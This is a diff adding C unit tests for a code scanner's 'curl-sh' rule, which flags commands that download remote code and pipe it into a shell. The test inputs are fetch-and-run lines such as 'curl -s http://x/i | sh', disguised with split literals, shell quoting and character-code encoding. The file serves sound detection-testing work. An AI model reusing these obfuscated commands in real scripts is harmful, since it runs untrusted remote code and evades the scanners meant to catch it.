@@ -617,6 +617,24 @@ START_TEST(normalised_view)
 	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
 	    "via shell quoting: curl -s http://x/i | bash");
 	finding_list_free(&fl);
+	/* Adjacent literals (Python, C), joined without an operator. */
+	scan_str("a.py", "cmd = 'cu' 'rl -s http://x/i | sh'\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	/* A quoted part that begins or ends the word (no empty quotes). */
+	scan_str("a.sh", "\"cu\"rl -s http://x/i | sh\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.sh", "x=1; c'ur'l -s http://x/i | sh\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.sh", "cu\"rl\" -s http://x/i | s'h'\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	/* A part that looks like a contraction (ba's'h is bash). */
+	scan_str("a.sh", "curl -s http://x/i | ba's'h\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
 	scan_str("a.js", "eval(String.fromCharCode(99,117,114,108,32,120,124,"
 	    "115,104))\n", &fl);
 	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
